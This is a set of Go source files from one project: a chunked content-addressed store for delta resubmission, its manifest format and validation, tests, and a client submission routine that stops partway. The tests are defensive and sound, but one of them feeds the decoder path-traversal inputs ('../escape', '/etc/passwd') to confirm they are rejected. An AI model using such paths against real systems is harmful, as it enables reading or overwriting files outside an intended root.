func (db *DB) Delete(collName string, filter M) (int, error) {
	db.mu.Lock()
	defer db.mu.Unlock()
	c, err := db.coll(collName)
	if err != nil {
		return 0, err
	}
	n := 0
	kept := c.order[:0]
	for _, id := range c.order {
		doc, ok := c.docs[id]
		if !ok {
			continue
		}
		match, merr := matches(doc, filter)
		if merr != nil {
			return n, merr
		}
		if match {
			delete(c.docs, id)
			n++
			db.emit("delete", collName, id)
		} else {
			kept = append(kept, id)
		}
	}
	c.order = kept
	return n, nil
}

// Collections lists collection names, sorted.
func (db *DB) Collections() []string {
	db.mu.RLock()
	defer db.mu.RUnlock()
	out := make([]string, 0, len(db.collections))
	for name := range db.collections {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// Drop removes an entire collection.
func (db *DB) Drop(collName string) {
	db.mu.Lock()
	defer db.mu.Unlock()
	if _, ok := db.collections[collName]; ok {
		delete(db.collections, collName)
		db.emit("drop", collName, "")
	}
}

// Decode re-marshals a stored document into a typed struct.
func Decode(doc M, v any) error {
	raw, err := json.Marshal(doc)
	if err != nil {
		return err
	}
	return json.Unmarshal(raw, v)
}

func deepCopy(doc M) M {
	out := make(M, len(doc))
	for k, v := range doc {
		out[k] = copyValue(v)
	}
	return out
}

func copyValue(v any) any {
	switch t := v.(type) {
	case map[string]any:
		out := make(map[string]any, len(t))
		for k, e := range t {
			out[k] = copyValue(e)
		}
		return out
	case []any:
		out := make([]any, len(t))
		for i, e := range t {
			out[i] = copyValue(e)
		}
		return out
	default:
		return v
	}
}
