// Package cas implements the content-addressed store behind delta
// resubmission (DESIGN.md §16): project files are split into
// content-defined chunks, each chunk is addressed by its SHA-256, and a
// submission becomes a *manifest* — an ordered file → chunk-hash list —
// instead of a monolithic archive. Because chunk boundaries are chosen
// by a rolling hash over content (FastCDC-style), an edit to one file
// disturbs only the chunks it touches: resubmitting a near-identical
// tree re-uploads roughly the edited bytes, not the tree.
//
// The package is deliberately storage-agnostic: chunks live as ordinary
// objects in a dedicated bucket (Bucket) of whatever blobstore backend
// the object store mounts there, so TTL sweeping, quotas, and watch
// events all apply unchanged.
package cas

import (
	"crypto/sha256"
	"encoding/hex"
)

// Chunking parameters. The averages are tuned for course projects:
// source trees of a few kilobytes to a few megabytes where the unit of
// change is an edited source file. Smaller chunks would bloat manifests;
// larger ones would make a one-line edit re-upload most of a file.
const (
	MinChunk = 2 << 10  // never cut before this many bytes
	AvgChunk = 8 << 10  // target average chunk size
	MaxChunk = 64 << 10 // force a cut at this many bytes
)

// Bucket is the dedicated bucket chunks are stored under. Deployments
// that want chunk storage on its own engine mount this prefix in a
// blobstore.Table (raifs -cas-root).
const Bucket = "rai-cas"

// HashHex returns the lowercase hex SHA-256 of data — the chunk address.
func HashHex(data []byte) string {
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// ChunkKey maps a chunk hash to its object key inside Bucket. A two-hex
// fan-out directory keeps per-prefix listings small on disk backends.
func ChunkKey(hashHex string) string {
	if len(hashHex) < 2 {
		return "sha256/" + hashHex
	}
	return "sha256/" + hashHex[:2] + "/" + hashHex
}

// gear is the 256-entry random table driving the rolling hash. It is
// generated at init from a fixed splitmix64 seed so chunk boundaries —
// and therefore chunk hashes, tree hashes, and build-cache keys — are
// identical across every client, worker, and release.
var gear [256]uint64

func init() {
	// splitmix64 with a fixed seed; see Steele et al., "Fast Splittable
	// Pseudorandom Number Generators".
	state := uint64(0x5261494341533130) // "RAICAS10"
	for i := range gear {
		state += 0x9e3779b97f4a7c15
		z := state
		z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
		z = (z ^ (z >> 27)) * 0x94d049bb133111eb
		gear[i] = z ^ (z >> 31)
	}
}

// FastCDC-style normalized chunking uses two masks: a stricter one
// (more bits, fewer matches) before the average point to discourage
// short chunks, and a looser one after it to encourage cutting before
// MaxChunk. AvgChunk is 8 KiB = 2^13, so the centre mask has 13 bits.
const (
	maskStrict = uint64(0x0000_0000_0000_7fff) // 15 bits: avg*4 before centre
	maskLoose  = uint64(0x0000_0000_0000_07ff) // 11 bits: avg/4 after centre
)

// cutPoint returns the length of the next chunk starting at data[0:].
// It always returns a value in [1, len(data)] for non-empty input.
func cutPoint(data []byte) int {
	n := len(data)
	if n <= MinChunk {
		return n
	}
	max := n
	if max > MaxChunk {
		max = MaxChunk
	}
	centre := AvgChunk
	if centre > max {
		centre = max
	}
	var h uint64
	i := MinChunk
	// The hash warms up over the bytes before MinChunk so boundaries
	// depend on content, not position.
	for j := i - 64; j < i; j++ {
		if j >= 0 {
			h = (h << 1) + gear[data[j]]
		}
	}
	for ; i < centre; i++ {
		h = (h << 1) + gear[data[i]]
		if h&maskStrict == 0 {
			return i + 1
		}
	}
	for ; i < max; i++ {
		h = (h << 1) + gear[data[i]]
		if h&maskLoose == 0 {
			return i + 1
		}
	}
	return max
}

// Split cuts data into content-defined chunks. Concatenating the
// returned slices reproduces data exactly; each slice aliases data (no
// copies). Empty input yields no chunks.
func Split(data []byte) [][]byte {
	var out [][]byte
	for len(data) > 0 {
		n := cutPoint(data)
		out = append(out, data[:n:n])
		data = data[n:]
	}
	return out
}
