package cas

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"sort"
	"strconv"
	"strings"

	"rai/internal/vfs"
)

// Magic prefixes every encoded manifest. The worker sniffs it to decide
// whether an upload object is a manifest or a legacy tar.bz2 archive,
// so it must not collide with the bzip2 signature ("BZh").
const Magic = "RAICAS1\n"

// Limits mirroring archivex: a manifest describing more than this is
// rejected before any chunk is fetched.
const (
	MaxFiles         = 100_000
	MaxManifestBytes = 64 << 20
)

// ChunkRef names one chunk of a file.
type ChunkRef struct {
	Hash string `json:"h"`
	Size int64  `json:"s"`
}

// FileEntry is one regular file in the tree, in manifest (path-sorted)
// order. Concatenating its chunks reproduces the file exactly.
type FileEntry struct {
	Path   string     `json:"path"`
	Size   int64      `json:"size"`
	Chunks []ChunkRef `json:"chunks,omitempty"`
}

// Manifest is the content-addressed description of a project tree: the
// submission object that replaces the packed archive when both ends
// speak the delta protocol.
type Manifest struct {
	// TreeHash is the canonical content hash of the whole tree (dirs,
	// paths, and chunk hashes); it keys the worker's build cache.
	TreeHash string `json:"tree_hash"`
	// TotalBytes is the sum of file sizes — what a full upload would
	// have transferred before compression.
	TotalBytes int64 `json:"total_bytes"`
	// Dirs lists every directory under the root (sorted), so empty
	// directories survive the round trip exactly like tar's type-D
	// entries.
	Dirs  []string    `json:"dirs,omitempty"`
	Files []FileEntry `json:"files,omitempty"`
}

// ChunkSet returns the distinct chunk hashes in manifest order.
func (m *Manifest) ChunkSet() []string {
	seen := make(map[string]bool)
	var out []string
	for _, f := range m.Files {
		for _, c := range f.Chunks {
			if !seen[c.Hash] {
				seen[c.Hash] = true
				out = append(out, c.Hash)
			}
		}
	}
	return out
}

// computeTreeHash derives the canonical tree hash from the manifest's
// dirs, file paths/sizes, and chunk hashes. Chunk boundaries are
// deterministic (fixed gear table), so two trees with identical content
// hash identically no matter where the manifest was built.
func computeTreeHash(m *Manifest) string {
	h := sha256.New()
	for _, d := range m.Dirs {
		_, _ = io.WriteString(h, "D "+d+"\n")
	}
	for _, f := range m.Files {
		_, _ = io.WriteString(h, "F "+f.Path+" "+strconv.FormatInt(f.Size, 10)+"\n")
		for _, c := range f.Chunks {
			_, _ = io.WriteString(h, c.Hash+"\n")
		}
	}
	return hex.EncodeToString(h.Sum(nil))
}

// Seal sorts the manifest canonically and stamps TreeHash.
func (m *Manifest) Seal() {
	sort.Strings(m.Dirs)
	sort.Slice(m.Files, func(i, j int) bool { return m.Files[i].Path < m.Files[j].Path })
	m.TreeHash = computeTreeHash(m)
}

// Encode serializes the manifest with the sniffable magic prefix.
func (m *Manifest) Encode() []byte {
	body, err := json.Marshal(m)
	if err != nil {
		// Manifest contains only strings and integers; Marshal cannot fail.
		panic("cas: encoding manifest: " + err.Error())
	}
	out := make([]byte, 0, len(Magic)+len(body))
	out = append(out, Magic...)
	return append(out, body...)
}

// IsManifest reports whether data begins with the manifest magic. A
// prefix of at least len(Magic) bytes is enough to sniff.
func IsManifest(data []byte) bool {
	return len(data) >= len(Magic) && string(data[:len(Magic)]) == Magic
}

// Decode parses and validates an encoded manifest: magic, size caps,
// safe relative paths, and a tree hash that matches the content. A
// manifest that fails here is rejected before any chunk I/O happens.
func Decode(data []byte) (*Manifest, error) {
	if int64(len(data)) > MaxManifestBytes {
		return nil, fmt.Errorf("cas: manifest exceeds %d bytes", int64(MaxManifestBytes))
	}
	if !IsManifest(data) {
		return nil, fmt.Errorf("cas: missing manifest magic")
	}
	var m Manifest
	if err := json.Unmarshal(data[len(Magic):], &m); err != nil {
		return nil, fmt.Errorf("cas: parsing manifest: %w", err)
	}
	if len(m.Files) > MaxFiles {
		return nil, fmt.Errorf("cas: manifest lists %d files (limit %d)", len(m.Files), MaxFiles)
	}
	for _, d := range m.Dirs {
		if err := checkRel(d); err != nil {
			return nil, err
		}
	}
	var total int64
	for _, f := range m.Files {
		if err := checkRel(f.Path); err != nil {
			return nil, err
		}
		var sum int64
		for _, c := range f.Chunks {
			if len(c.Hash) != 64 || c.Size <= 0 {
				return nil, fmt.Errorf("cas: malformed chunk ref %q in %s", c.Hash, f.Path)
			}
			sum += c.Size
		}
		if sum != f.Size {
			return nil, fmt.Errorf("cas: %s: chunk sizes sum to %d, file size %d", f.Path, sum, f.Size)
		}
		total += f.Size
	}
	if total != m.TotalBytes {
		return nil, fmt.Errorf("cas: total bytes %d, files sum to %d", m.TotalBytes, total)
	}
	if got := computeTreeHash(&m); got != m.TreeHash {
		return nil, fmt.Errorf("cas: tree hash mismatch: manifest says %s, content is %s", m.TreeHash, got)
	}
	return &m, nil
}

// checkRel rejects the traversal shapes a hostile manifest could use to
// escape the materialization root (the same guard archivex applies to
// tar member names).
func checkRel(p string) error {
	if p == "" || strings.HasPrefix(p, "/") {
		return fmt.Errorf("cas: unsafe path %q in manifest", p)
	}
	if cp := path.Clean(p); cp != p || cp == ".." || strings.HasPrefix(cp, "../") {
		return fmt.Errorf("cas: unsafe path %q in manifest", p)
	}
	return nil
}

// ---- building ----

// Source yields chunk payloads by hash for upload. Build functions
// return one alongside the manifest; it re-reads the underlying tree on
// demand so no chunk data is pinned in memory.
type Source interface {
	Chunk(hash string) ([]byte, error)
}

type chunkLoc struct {
	path string
	off  int64
	size int64
}

type dirSource struct {
	root string
	locs map[string]chunkLoc
}

func (s *dirSource) Chunk(hash string) ([]byte, error) {
	loc, ok := s.locs[hash]
	if !ok {
		return nil, fmt.Errorf("cas: unknown chunk %s", hash)
	}
	f, err := os.Open(filepath.Join(s.root, filepath.FromSlash(loc.path)))
	if err != nil {
		return nil, err
	}
	defer f.Close()
	buf := make([]byte, loc.size)
	if _, err := f.ReadAt(buf, loc.off); err != nil {
		return nil, fmt.Errorf("cas: rereading chunk %s from %s: %w", hash, loc.path, err)
	}
	if HashHex(buf) != hash {
		return nil, fmt.Errorf("cas: %s changed while uploading (chunk %s)", loc.path, hash)
	}
	return buf, nil
}

type vfsSource struct {
	fs   *vfs.FS
	root string
	locs map[string]chunkLoc
}

func (s *vfsSource) Chunk(hash string) ([]byte, error) {
	loc, ok := s.locs[hash]
	if !ok {
		return nil, fmt.Errorf("cas: unknown chunk %s", hash)
	}
	data, err := s.fs.ReadFile(path.Join(s.root, loc.path))
	if err != nil {
		return nil, err
	}
	if loc.off+loc.size > int64(len(data)) {
		return nil, fmt.Errorf("cas: chunk %s out of range in %s", hash, loc.path)
	}
	buf := data[loc.off : loc.off+loc.size]
	if HashHex(buf) != hash {
		return nil, fmt.Errorf("cas: %s changed while uploading (chunk %s)", loc.path, hash)
	}
	return buf, nil
}

// chunkFile splits one file's content and records chunk refs + locations.
func chunkFile(rel string, data []byte, locs map[string]chunkLoc) FileEntry {
	fe := FileEntry{Path: rel, Size: int64(len(data))}
	var off int64
	for _, c := range Split(data) {
		h := HashHex(c)
		fe.Chunks = append(fe.Chunks, ChunkRef{Hash: h, Size: int64(len(c))})
		if _, ok := locs[h]; !ok {
			locs[h] = chunkLoc{path: rel, off: off, size: int64(len(c))}
		}
		off += int64(len(c))
	}
	return fe
}

// skipDir mirrors archivex.PackDirTo's VCS-metadata exclusions so the
// manifest describes exactly the tree a packed archive would carry.
func skipDir(name string) bool {
	return name == ".git" || name == ".hg" || name == ".svn"
}

// BuildDir scans a host directory into a manifest plus a Source for its
// chunks. File selection matches archivex.PackDir: VCS metadata
// directories are skipped and only regular files are included, so the
// tree hash agrees with what the worker computes after unpacking the
// equivalent archive.
func BuildDir(root string) (*Manifest, Source, error) {
	m := &Manifest{}
	src := &dirSource{root: root, locs: make(map[string]chunkLoc)}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, rerr := filepath.Rel(root, p)
		if rerr != nil {
			return rerr
		}
		rel = filepath.ToSlash(rel)
		if rel == "." {
			return nil
		}
		if d.IsDir() {
			if skipDir(d.Name()) {
				return filepath.SkipDir
			}
			m.Dirs = append(m.Dirs, rel)
			return nil
		}
		if !d.Type().IsRegular() {
			return nil
		}
		data, rerr := os.ReadFile(p)
		if rerr != nil {
			return rerr
		}
		fe := chunkFile(rel, data, src.locs)
		m.Files = append(m.Files, fe)
		m.TotalBytes += fe.Size
		return nil
	})
	if err != nil {
		return nil, nil, fmt.Errorf("cas: scanning %s: %w", root, err)
	}
	m.Seal()
	return m, src, nil
}

// BuildVFS scans a virtual-filesystem subtree into a manifest plus a
// chunk Source. The worker uses it to hash legacy (tar) uploads after
// unpacking, so full-archive submissions still hit the build cache.
func BuildVFS(fsys *vfs.FS, root string) (*Manifest, Source, error) {
	m := &Manifest{}
	src := &vfsSource{fs: fsys, root: root, locs: make(map[string]chunkLoc)}
	cleanRoot := path.Clean(root)
	err := fsys.Walk(cleanRoot, func(p string, fi vfs.FileInfo) error {
		rel := strings.TrimPrefix(p, cleanRoot)
		rel = strings.TrimPrefix(rel, "/")
		if rel == "" {
			return nil
		}
		if fi.Dir {
			if skipDir(fi.Name) {
				return nil // vfs.Walk has no SkipDir; children are filtered below
			}
			m.Dirs = append(m.Dirs, rel)
			return nil
		}
		data, rerr := fsys.ReadFile(p)
		if rerr != nil {
			return rerr
		}
		fe := chunkFile(rel, data, src.locs)
		m.Files = append(m.Files, fe)
		m.TotalBytes += fe.Size
		return nil
	})
	if err != nil {
		return nil, nil, fmt.Errorf("cas: scanning vfs %s: %w", root, err)
	}
	// Filter out anything under a skipped VCS directory (Walk cannot
	// prune subtrees).
	m.Dirs = filterSkipped(m.Dirs)
	files := m.Files[:0]
	m.TotalBytes = 0
	for _, f := range m.Files {
		if underSkipped(f.Path) {
			continue
		}
		files = append(files, f)
		m.TotalBytes += f.Size
	}
	m.Files = files
	m.Seal()
	return m, src, nil
}

func underSkipped(rel string) bool {
	for _, seg := range strings.Split(rel, "/") {
		if skipDir(seg) {
			return true
		}
	}
	return false
}

func filterSkipped(dirs []string) []string {
	out := dirs[:0]
	for _, d := range dirs {
		if !underSkipped(d) {
			out = append(out, d)
		}
	}
	return out
}

// ---- materializing ----

// Fetch retrieves one chunk's payload by hash.
type Fetch func(hash string) ([]byte, error)

// materializeCacheBudget bounds the in-memory chunk cache used to
// dedupe fetches while materializing one tree.
const materializeCacheBudget = 32 << 20

// Materialize reconstructs the manifest's tree under root in dst,
// fetching each distinct chunk once (within a bounded cache) and
// verifying every chunk against its hash before it lands. It returns
// the number of chunk fetches and the bytes fetched.
func Materialize(m *Manifest, fetch Fetch, dst *vfs.FS, root string) (fetches int, bytesFetched int64, err error) {
	if err := dst.MkdirAll(root); err != nil {
		return fetches, bytesFetched, err
	}
	for _, d := range m.Dirs {
		if err := dst.MkdirAll(path.Join(root, d)); err != nil {
			return fetches, bytesFetched, err
		}
	}
	cache := make(map[string][]byte)
	var cached int64
	load := func(ref ChunkRef) ([]byte, error) {
		if data, ok := cache[ref.Hash]; ok {
			return data, nil
		}
		data, err := fetch(ref.Hash)
		if err != nil {
			return nil, fmt.Errorf("cas: fetching chunk %s: %w", ref.Hash, err)
		}
		fetches++
		bytesFetched += int64(len(data))
		if int64(len(data)) != ref.Size || HashHex(data) != ref.Hash {
			return nil, fmt.Errorf("cas: chunk %s: fetched %d bytes that hash differently", ref.Hash, len(data))
		}
		if cached+int64(len(data)) <= materializeCacheBudget {
			cache[ref.Hash] = data
			cached += int64(len(data))
		}
		return data, nil
	}
	for _, f := range m.Files {
		buf := bytes.NewBuffer(make([]byte, 0, f.Size))
		for _, ref := range f.Chunks {
			data, err := load(ref)
			if err != nil {
				return fetches, bytesFetched, fmt.Errorf("%s: %w", f.Path, err)
			}
			buf.Write(data)
		}
		if err := dst.WriteFile(path.Join(root, f.Path), buf.Bytes()); err != nil {
			return fetches, bytesFetched, err
		}
	}
	return fetches, bytesFetched, nil
}
