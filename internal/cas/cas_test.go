package cas

import (
	"bytes"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"rai/internal/vfs"
)

// deterministic pseudo-random payload; the seed fixes the bytes across
// runs so chunk boundaries (and this test) are stable.
func randBytes(seed int64, n int) []byte {
	r := rand.New(rand.NewSource(seed))
	out := make([]byte, n)
	r.Read(out)
	return out
}

func TestSplitReassembles(t *testing.T) {
	for _, n := range []int{0, 1, MinChunk - 1, MinChunk, AvgChunk, MaxChunk, MaxChunk + 1, 1 << 20} {
		data := randBytes(int64(n), n)
		chunks := Split(data)
		var joined []byte
		for _, c := range chunks {
			if len(c) > MaxChunk {
				t.Errorf("n=%d: chunk of %d bytes exceeds MaxChunk", n, len(c))
			}
			joined = append(joined, c...)
		}
		if !bytes.Equal(joined, data) {
			t.Errorf("n=%d: concatenated chunks differ from input", n)
		}
		if n == 0 && len(chunks) != 0 {
			t.Errorf("empty input produced %d chunks", len(chunks))
		}
	}
}

func TestSplitDeterministicBoundaries(t *testing.T) {
	data := randBytes(7, 1<<20)
	a := Split(data)
	b := Split(data)
	if len(a) != len(b) {
		t.Fatalf("two splits of the same data: %d vs %d chunks", len(a), len(b))
	}
	for i := range a {
		if HashHex(a[i]) != HashHex(b[i]) {
			t.Fatalf("chunk %d differs between runs", i)
		}
	}
	// A megabyte of random bytes should land near the target average.
	if avg := len(data) / len(a); avg < AvgChunk/4 || avg > AvgChunk*4 {
		t.Errorf("average chunk size %d far from target %d", avg, AvgChunk)
	}
}

// TestEditLocality is the property delta resubmission rests on: a small
// edit in the middle of a file leaves all but a handful of chunks
// identical, so only those re-upload.
func TestEditLocality(t *testing.T) {
	orig := randBytes(11, 1<<20)
	edited := append([]byte(nil), orig...)
	copy(edited[512<<10:], []byte("a one-line edit lands here"))

	count := func(chunks [][]byte) map[string]bool {
		set := make(map[string]bool)
		for _, c := range chunks {
			set[HashHex(c)] = true
		}
		return set
	}
	before := count(Split(orig))
	changed := 0
	for h := range count(Split(edited)) {
		if !before[h] {
			changed++
		}
	}
	if changed > 4 {
		t.Errorf("one edit changed %d chunks of %d — boundaries not content-defined?", changed, len(before))
	}
}

func writeTree(t *testing.T, root string, files map[string]string, dirs ...string) {
	t.Helper()
	for _, d := range dirs {
		if err := os.MkdirAll(filepath.Join(root, filepath.FromSlash(d)), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for p, content := range files {
		full := filepath.Join(root, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// edgeTree is the satellite's edge-case fixture: empty dirs, 0-byte
// files, deep nesting, and names that need key-escaping.
func edgeTree() (map[string]string, []string) {
	files := map[string]string{
		"main.cu":                "int main() {}\n",
		"zero.bin":               "",
		"a/b/c/d/e/f/g/deep.txt": "bottom of the tree\n",
		"odd name %2F 100%.txt":  "percent and spaces\n",
		"src/kernel.cu":          strings.Repeat("__global__ void k();\n", 500),
		"src/data.raw":           string(randBytes(3, 3*AvgChunk)),
	}
	dirs := []string{"empty", "nested/also-empty"}
	return files, dirs
}

func TestManifestRoundTrip(t *testing.T) {
	root := t.TempDir()
	files, dirs := edgeTree()
	writeTree(t, root, files, dirs...)

	m, src, err := BuildDir(root)
	if err != nil {
		t.Fatal(err)
	}
	if m.TreeHash == "" || len(m.TreeHash) != 64 {
		t.Fatalf("tree hash = %q", m.TreeHash)
	}

	// Encode → sniff → Decode survives and validates.
	enc := m.Encode()
	if !IsManifest(enc) {
		t.Fatal("encoded manifest fails its own sniff")
	}
	if IsManifest([]byte("BZh91AY&SY...")) {
		t.Fatal("bzip2 signature sniffed as manifest")
	}
	dec, err := Decode(enc)
	if err != nil {
		t.Fatal(err)
	}
	if dec.TreeHash != m.TreeHash {
		t.Fatalf("decoded tree hash %s != %s", dec.TreeHash, m.TreeHash)
	}

	// Materialize through the Source and compare every path exactly.
	dst := vfs.New()
	fetches, bytesFetched, err := Materialize(dec, src.Chunk, dst, "/src")
	if err != nil {
		t.Fatal(err)
	}
	if fetches == 0 && len(files) > 0 {
		t.Error("materialize fetched nothing")
	}
	if bytesFetched != m.TotalBytes {
		// Every chunk is distinct in this fixture except dedup; fetched
		// bytes can be below TotalBytes but never above.
		if bytesFetched > m.TotalBytes {
			t.Errorf("fetched %d bytes > tree total %d", bytesFetched, m.TotalBytes)
		}
	}
	for p, want := range files {
		got, err := dst.ReadFile("/src/" + p)
		if err != nil {
			t.Errorf("%s: %v", p, err)
			continue
		}
		if string(got) != want {
			t.Errorf("%s: content mismatch (%d vs %d bytes)", p, len(got), len(want))
		}
	}
	for _, d := range dirs {
		fi, err := dst.Stat("/src/" + d)
		if err != nil || !fi.Dir {
			t.Errorf("empty dir %s not reproduced: %v", d, err)
		}
	}
}

func TestBuildVFSMatchesBuildDir(t *testing.T) {
	files, dirs := edgeTree()
	root := t.TempDir()
	writeTree(t, root, files, dirs...)
	// Same tree inside .git must be ignored by both builders.
	writeTree(t, root, map[string]string{".git/config": "[core]\n"})

	fsys := vfs.New()
	for _, d := range dirs {
		if err := fsys.MkdirAll("/src/" + d); err != nil {
			t.Fatal(err)
		}
	}
	if err := fsys.MkdirAll("/src/.git"); err != nil {
		t.Fatal(err)
	}
	if err := fsys.WriteFile("/src/.git/config", []byte("[core]\n")); err != nil {
		t.Fatal(err)
	}
	for p, content := range files {
		dir := "/src/" + p
		if i := strings.LastIndex(dir, "/"); i > 0 {
			if err := fsys.MkdirAll(dir[:i]); err != nil {
				t.Fatal(err)
			}
		}
		if err := fsys.WriteFile("/src/"+p, []byte(content)); err != nil {
			t.Fatal(err)
		}
	}

	md, _, err := BuildDir(root)
	if err != nil {
		t.Fatal(err)
	}
	mv, _, err := BuildVFS(fsys, "/src")
	if err != nil {
		t.Fatal(err)
	}
	if md.TreeHash != mv.TreeHash {
		t.Fatalf("host dir and vfs builds disagree:\n dir %s\n vfs %s", md.TreeHash, mv.TreeHash)
	}
	for _, f := range mv.Files {
		if strings.HasPrefix(f.Path, ".git/") {
			t.Errorf("VCS metadata %s leaked into manifest", f.Path)
		}
	}
}

func TestDecodeRejectsHostileManifests(t *testing.T) {
	base := &Manifest{
		Files: []FileEntry{{Path: "ok.txt", Size: 2, Chunks: []ChunkRef{{Hash: HashHex([]byte("hi")), Size: 2}}}},
	}
	base.TotalBytes = 2
	base.Seal()

	mutate := func(f func(*Manifest)) []byte {
		var m Manifest
		m.Dirs = append([]string(nil), base.Dirs...)
		for _, fe := range base.Files {
			fe.Chunks = append([]ChunkRef(nil), fe.Chunks...)
			m.Files = append(m.Files, fe)
		}
		m.TotalBytes = base.TotalBytes
		m.TreeHash = base.TreeHash
		f(&m)
		return m.Encode()
	}
	cases := map[string][]byte{
		"no magic":       []byte(`{"tree_hash":""}`),
		"traversal file": mutate(func(m *Manifest) { m.Files[0].Path = "../escape"; m.Seal() }),
		"absolute file":  mutate(func(m *Manifest) { m.Files[0].Path = "/etc/passwd"; m.Seal() }),
		"traversal dir":  mutate(func(m *Manifest) { m.Dirs = []string{"a/../../b"}; m.Seal() }),
		"size mismatch":  mutate(func(m *Manifest) { m.Files[0].Size = 99; m.TreeHash = computeTreeHash(m) }),
		"bad tree hash":  mutate(func(m *Manifest) { m.TreeHash = strings.Repeat("0", 64) }),
		"bad chunk ref":  mutate(func(m *Manifest) { m.Files[0].Chunks[0].Hash = "short"; m.TreeHash = computeTreeHash(m) }),
	}
	for name, enc := range cases {
		if _, err := Decode(enc); err == nil {
			t.Errorf("%s: hostile manifest accepted", name)
		}
	}
	if _, err := Decode(base.Encode()); err != nil {
		t.Errorf("well-formed manifest rejected: %v", err)
	}
}

func TestChunkKeyFanout(t *testing.T) {
	h := HashHex([]byte("x"))
	key := ChunkKey(h)
	if !strings.HasPrefix(key, "sha256/"+h[:2]+"/") || !strings.HasSuffix(key, h) {
		t.Errorf("ChunkKey(%s) = %s", h, key)
	}
}

func TestSourceDetectsConcurrentEdit(t *testing.T) {
	root := t.TempDir()
	writeTree(t, root, map[string]string{"f.txt": "original content\n"})
	m, src, err := BuildDir(root)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "f.txt"), []byte("changed under us!\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, h := range m.ChunkSet() {
		if _, err := src.Chunk(h); err == nil {
			t.Fatal("source served a chunk whose file changed after hashing")
		}
	}
}

func BenchmarkSplit(b *testing.B) {
	data := randBytes(1, 4<<20)
	b.SetBytes(int64(len(data)))
	for i := 0; i < b.N; i++ {
		if got := Split(data); len(got) == 0 {
			b.Fatal("no chunks")
		}
	}
}

func ExampleChunkKey() {
	fmt.Println(ChunkKey("ab" + strings.Repeat("0", 62)))
	// Output: sha256/ab/ab00000000000000000000000000000000000000000000000000000000000000
}
