package core

import (
	"context"
	"errors"
	"fmt"

	"rai/internal/build"
	"rai/internal/cas"
	"rai/internal/objstore"
	"rai/internal/telemetry"
)

// CASObjects is the optional delta-resubmission extension of the
// Objects port (DESIGN.md §16): negotiate a manifest against the
// store's chunk inventory, then upload only what is missing. The HTTP
// client implements it against the /cas endpoints; LocalObjects
// implements it directly against the engine so simulations exercise the
// same protocol. Callers type-assert and fall back to full uploads when
// the port (or the server behind it) lacks the capability.
type CASObjects interface {
	// MissingChunks returns the subset of the manifest's chunks absent
	// from the store, refreshing the TTL of those present.
	MissingChunks(ctx context.Context, m *cas.Manifest) ([]string, error)
	// PutChunks uploads the named chunks from src and returns the
	// payload bytes transferred.
	PutChunks(ctx context.Context, hashes []string, src cas.Source) (int64, error)
}

// ErrDeltaUnsupported reports that delta submission cannot be used on
// this transport/server pair; callers should fall back to
// SubmitReaderContext with a full archive.
var ErrDeltaUnsupported = errors.New("core: delta submission unsupported; fall back to full upload")

// TransferStats describes what one delta submission actually moved —
// the numbers behind the CLI's transfer summary line.
type TransferStats struct {
	// TotalBytes is the tree size a full (uncompressed) upload would
	// have carried.
	TotalBytes int64
	// SentBytes is what went over the wire: manifest plus missing-chunk
	// payloads.
	SentBytes int64
	// ChunksTotal/ChunksSent count distinct chunks in the tree and how
	// many had to be uploaded (the rest were already on the server).
	ChunksTotal int
	ChunksSent  int
}

// DedupRatio is the fraction of tree bytes the negotiation avoided
// re-uploading (0 when the tree was fully transferred).
func (t *TransferStats) DedupRatio() float64 {
	if t.TotalBytes <= 0 {
		return 0
	}
	saved := t.TotalBytes - t.SentBytes
	if saved < 0 {
		return 0
	}
	return float64(saved) / float64(t.TotalBytes)
}

// SubmitManifestContext runs the delta submission sequence: negotiate
// the manifest, stream only missing chunks, store the manifest as the
// upload object, and enqueue the job exactly like SubmitReaderContext.
// Returns ErrDeltaUnsupported (possibly wrapping the probe error) when
// the Objects port or the server cannot speak the protocol — the caller
// falls back to a full archive upload.
func (c *Client) SubmitManifestContext(ctx context.Context, kind string, spec *build.Spec, m *cas.Manifest, src cas.Source) (*JobResult, error) {
	co, ok := c.Objects.(CASObjects)
	if !ok {
		return nil, ErrDeltaUnsupported
	}
	jobID := NewJobID()
	root, sampled := c.startJobSpan(jobID, kind)
	ctx = telemetry.ContextWithJobID(ctx, jobID)
	ctx = telemetry.ContextWithSampling(ctx, sampled)
	up := root.Child("upload")
	upCtx := telemetry.ContextWithSpan(ctx, up)

	missing, err := co.MissingChunks(upCtx, m)
	if err != nil {
		up.End()
		root.End()
		// A server without the capability — or an unreachable /caps — is
		// not a failed submission; report "fall back" and let the caller
		// retry with the archive path, which has its own retry budget.
		return nil, fmt.Errorf("%w: %w", ErrDeltaUnsupported, err)
	}
	sent, err := co.PutChunks(upCtx, missing, src)
	if err != nil {
		up.End()
		root.End()
		c.Log.Error(upCtx, "chunk upload failed", telemetry.L("error", err.Error()))
		return nil, fmt.Errorf("core: uploading chunks: %w", err)
	}
	enc := m.Encode()
	uploadKey := fmt.Sprintf("%s/%s/project.manifest", c.Creds.UserName, jobID)
	if err := c.Objects.Put(upCtx, BucketUploads, uploadKey, enc, UploadTTL); err != nil {
		up.End()
		root.End()
		c.Log.Error(upCtx, "manifest upload failed", telemetry.L("error", err.Error()))
		return nil, fmt.Errorf("core: uploading manifest: %w", err)
	}
	stats := &TransferStats{
		TotalBytes:  m.TotalBytes,
		SentBytes:   sent + int64(len(enc)),
		ChunksTotal: len(m.ChunkSet()),
		ChunksSent:  len(missing),
	}
	up.SetAttr("bytes", fmt.Sprint(stats.SentBytes))
	up.SetAttr("chunks_sent", fmt.Sprint(stats.ChunksSent))
	up.SetAttr("chunks_total", fmt.Sprint(stats.ChunksTotal))
	up.End()
